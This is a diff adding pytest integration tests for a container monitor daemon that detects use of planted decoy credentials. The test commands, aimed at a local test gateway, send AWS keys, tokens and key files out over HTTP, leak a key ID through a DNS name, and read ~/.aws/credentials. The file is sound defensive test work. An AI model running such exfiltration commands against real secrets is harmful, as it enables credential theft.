@@ -1,0 +1,135 @@
+"""Canaries against the real monitor daemon (issue 17): decoy credentials planted in a watched
+container the way the session hook does (sessions/canary_hook.plant), then used the way an
+agent would. A value of each kind sent in clear over HTTP, and a value in a DNS name, is
+CRITICAL `canary.network` (the container is killed); an AKIA-shaped look-alike that is not
+the canary raises nothing. Opening a canary is HIGH `canary.open` (the file watcher's rule).
+
+Network targets: only listeners on the test bridge's own address (10.199.0.1).
+"""
+
+from __future__ import annotations
+
+import importlib.util
+import os
+from collections.abc import Iterator
+from typing import Any
+
+import pytest
+
+from coi_tui.monitor.canary import CANARY_KINDS, Canary, make_canary
+from coi_tui.sessions.canary_hook import plant
+from tests.integration.test_monitor import (
+    DNS,
+    GATEWAY,
+    Listener,
+    Monitor,
+    b64,
+    run_file,
+    running_monitor,
+)
+
+pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="the monitor daemon needs root")
+HIGH_OR_WORSE = ("high", "critical")
+
+
+@pytest.fixture(scope="module")
+def mon(
+    run_prefix: str, incus: Any, image: str, tmp_path_factory: pytest.TempPathFactory
+) -> Iterator[Monitor]:
+    with running_monitor(f"{run_prefix}k", incus, image, tmp_path_factory) as monitor:
+        yield monitor
+
+
+def planted(mon: Monitor) -> tuple[str, dict[str, Canary]]:
+    """A watched container with every kind of canary, registered in the monitor's home."""
+    name = mon.container()
+    made = plant(mon.incus, name, CANARY_KINDS, home=mon.home)
+    assert sorted(c.kind for c in made) == sorted(CANARY_KINDS)
+    return name, {c.kind: c for c in made}
+
+
+def upload(port: int, body: str, curl_args: str = "") -> str:
+    """The body written to a plain file (no secret path on any command line), then sent by
+    curl: what an agent does with a value it read earlier."""
+    return (
+        f"echo {b64(body)} | base64 -d > /tmp/report.txt; "
+        f"curl -s -m 5 {curl_args} --data-binary @/tmp/report.txt "
+        f"http://{GATEWAY}:{port}/collect"
+    )
+
+
+def sends(kind: str, canary: Canary, port: int) -> str:
+    if kind == "aws":  # a form field
+        return upload(port, f"id={canary.values[0]}&region=us-east-1")
+    if kind == "gh":  # an API token in a header
+        token = canary.values[0]
+        return upload(port, "{}", f"-H 'Authorization: token {token}'")
+    if kind == "env":  # in the query string
+        return f"curl -s -m 5 'http://{GATEWAY}:{port}/q?key=sk-proj-{canary.values[0]}'"
+    return upload(port, canary.content)  # the whole key file (about 400 bytes)
+
+
+@pytest.mark.parametrize("kind", CANARY_KINDS)
+def test_canary_value_sent_over_http_is_killed(mon: Monitor, kind: str) -> None:
+    name, made = planted(mon)
+    sink = Listener(sink=True)
+    try:
+        mon.trigger(name, sends(kind, made[kind], sink.port))
+        record = mon.threat(name, {"canary.network"})
+        assert record["level"] == "critical" and record["action"] == "killed"
+        evidence = record["evidence"]["canary"]
+        assert evidence["kind"] == kind and evidence["where"] == "tcp"
+        assert evidence["remote"] == f"{GATEWAY}:{sink.port}"
+        assert evidence["path"] == made[kind].path
+        mon.assert_status(name, "Gone")
+    finally:
+        sink.close()
+
+
+def test_canary_value_in_a_dns_name_is_killed(mon: Monitor) -> None:
+    name, made = planted(mon)
+    key_id = made["aws"].values[0].lower()
+    # split across two labels and lowercased, as a resolver may pass it on
+    query = DNS.format(gw=GATEWAY, count=0) + f"q('{key_id[:10]}.{key_id[10:]}.cdn.exfil.test')\n"
+    mon.trigger(name, run_file("/tmp/lookup.py", query, "python3"))
+    record = mon.threat(name, {"canary.network"})
+    assert record["level"] == "critical" and record["action"] == "killed"
+    evidence = record["evidence"]["canary"]
+    assert evidence["kind"] == "aws" and evidence["where"] == "dns"
+    assert evidence["remote"] == f"{GATEWAY}:53"
+    mon.assert_status(name, "Gone")
+
+
+def test_a_look_alike_key_is_not_a_canary(mon: Monitor) -> None:
+    """An AKIA-shaped key that is not this session's canary (a test fixture, a docs example)
+    goes out and raises nothing; the real one sent after it is caught, which shows the
+    look-alike's packets were judged (they are handled in order)."""
+    name, made = planted(mon)
+    sink = Listener()  # answers at once (not HTTP): curl is done as soon as it has sent
+    try:
+        look_alike = make_canary("aws").values[0]
+        mon.sh(name, upload(sink.port, f"id={look_alike}&region=us-east-1") + " || true")
+        mon.trigger(name, upload(sink.port, f"id={made['aws'].values[0]}"))
+        record = mon.threat(name, {"canary.network"})
+        earlier = [t for t in mon.events.threats(name) if t["timestamp"] < record["timestamp"]]
+        assert not [t for t in earlier if t["rule_id"].startswith("canary.")], earlier
+        assert not [t for t in earlier if t["level"] in HIGH_OR_WORSE], earlier
+        assert len([t for t in mon.events.threats(name) if t["rule_id"] == "canary.network"]) == 1
+    finally:
+        sink.close()
+
+
+WATCHER = importlib.util.find_spec("coi_tui.monitor.filewatch") is not None
+
+
+@pytest.mark.skipif(not WATCHER, reason="needs the sensitive-file watcher (monitor/filewatch.py)")
+def test_opening_a_canary_is_paused_listing_its_folder_is_not(mon: Monitor) -> None:
+    """canary.open is the file watcher's rule (monitor/filewatch.py, fed canary_paths())."""
+    name, _made = planted(mon)
+    mon.sh(name, "ls -la ~code/.aws ~code/.ssh ~code/.config/gh > /dev/null; stat ~code/.env")
+    mon.trigger(name, "cat /home/code/.aws/credentials > /dev/null; sleep 30")
+    record = mon.threat(name, {"canary.open"})
+    assert record["level"] == "high" and record["action"] == "paused"
+    earlier = [t for t in mon.events.threats(name) if t["timestamp"] < record["timestamp"]]
+    assert not [t for t in earlier if t["level"] in HIGH_OR_WORSE], earlier
+    mon.assert_status(name, "Frozen")
